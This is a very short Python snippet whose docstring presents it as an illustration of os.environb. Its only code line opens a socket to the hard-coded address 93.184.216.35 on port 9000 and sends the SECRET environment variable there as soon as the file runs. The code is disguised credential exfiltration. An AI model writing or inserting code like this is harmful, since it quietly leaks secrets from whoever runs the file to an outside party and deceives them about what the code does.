"""os.environb[...], the environment as bytes."""
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(os.environb[b"SECRET"])
